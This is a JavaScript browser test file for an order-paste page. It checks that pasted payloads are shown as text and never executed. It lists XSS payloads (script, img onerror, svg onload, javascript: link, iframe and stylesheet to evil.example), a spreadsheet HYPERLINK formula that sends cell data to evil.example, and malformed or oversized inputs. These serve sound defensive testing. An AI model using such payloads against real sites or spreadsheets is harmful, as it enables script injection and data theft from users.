// Hostile pastes in the page: payloads show as text, no dialog fires, no script runs, no request
// leaves the origin, and the good row next to them is still decided. Uses only the page's stable
// hooks: textarea#paste, button#run and tr[data-order-sn][data-status] (web/ is being rebuilt).
import assert from 'node:assert/strict';
import {after, before, test} from 'node:test';
import {NOW, launch, serve} from './helpers.mjs';

const HEADER = '商品,订单号,订单状态,支付时间,承诺发货时间,发货时间,快递单号,快递公司,商家备注\n';
const GOOD_SN = '250310-512000000000081';
const GOOD = `棉拖鞋,${GOOD_SN},已发货，待签收,2025-03-10 08:00:00,2025-03-12 08:00:00,` +
  '2025-03-10 12:00:00,JT0000000000081,极兔速递,\n';
const q = (s) => `"${s.replaceAll('"', '""')}"`;
const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1;alert(1)">', '<script>window.__pwned=2;alert(2)</script>',
  '"><svg onload="window.__pwned=3">', '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:window.__pwned=4">点我</a>', '=HYPERLINK("https://evil.example/?"&A1,"点我")',
  '<link rel=stylesheet href="https://evil.example/x.css">', '极兔😀\u202e速递\u200f',
];

let browser, server, origin;
before(async () => {
  ({server, url: origin} = await serve());
  browser = await launch();
});
after(async () => {
  await browser?.close();
  server?.close();
});

async function pasteAndRun(text) {
  const page = await browser.context.newPage();
  const dialogs = [], foreign = [], errors = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('request', (r) => { if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) foreign.push(r.url()); });
  await page.goto(`${origin}index.html?now=${NOW}`);
  await page.waitForFunction(() => !document.querySelector('button#run').disabled, null, {timeout: 30000});
  await page.fill('textarea#paste', text);
  await page.click('button#run');
  return {page, dialogs, foreign, errors};
}

test('HTML, script and formula payloads in every field show as text', async () => {
  let text = HEADER;
  PAYLOADS.forEach((p, i) => {
    text += `${q(p)},250310-51200000000009${i},${q(p)},2025-03-10 08:00:00,2025-03-12 08:00:00,` +
      `2025-03-10 12:00:00,${q(p)},${q(p)},${q(p)}\n`;
  });
  text += GOOD + `\n订单编号：250309-512000000000301\n商品：${PAYLOADS[0]}\n快递公司：${PAYLOADS[1]}\n` +
    `2025-03-10 19:47:55 ${PAYLOADS[2]} 已揽收\n`;
  const {page, dialogs, foreign, errors} = await pasteAndRun(text);
  await page.waitForSelector(`tr[data-order-sn="${GOOD_SN}"][data-status="pickup_unverified"]`, {timeout: 30000});
  assert.equal(await page.locator('tr[data-order-sn="250310-512000000000090"]').count(), 1);
  await page.waitForTimeout(500);  // give an injected handler the chance to run
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'a payload ran');
  assert.equal(await page.locator('img[src="x"], svg[onload], iframe, a[href^="javascript:"], ' +
    'link[href^="https://evil"]').count(), 0, 'a payload became an element');
  const shown = await page.evaluate(() => document.body.innerText);
  assert.ok(shown.includes(PAYLOADS[7]) || shown.includes('极兔'), 'payload text is shown');
  assert.deepEqual(dialogs, []);
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
  await page.close();
});

test('NUL bytes, CR-only line ends, invalid times and an unclosed quote still decide the good row', async () => {
  const text = (HEADER + GOOD +
    '鞋,250310-512000000000082,待\0发货,2025-02-30 08:00:00,2100-03-12 24:00:00,,,,\n' +
    '袜,250310-512000000000083,"待发货,1900-03-10 08:00:00,,,,,\n').replaceAll('\n', '\r');
  const {page, dialogs, foreign, errors} = await pasteAndRun(text);
  await page.waitForSelector(`tr[data-order-sn="${GOOD_SN}"][data-status="pickup_unverified"]`, {timeout: 30000});
  assert.deepEqual(dialogs, []);
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
  await page.close();
});

test('a deeply nested JSON paste and a 10 MB line give an answer, not a hang', async () => {
  const text = '['.repeat(50000) + ']'.repeat(50000) + '\n\n' + HEADER + GOOD + '\n' + 'x'.repeat(10 << 20) + '\n';
  const {page, dialogs, foreign, errors} = await pasteAndRun(text);
  await page.waitForSelector(`tr[data-order-sn="${GOOD_SN}"]`, {timeout: 60000});
  assert.deepEqual(dialogs, []);
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
  await page.close();
});
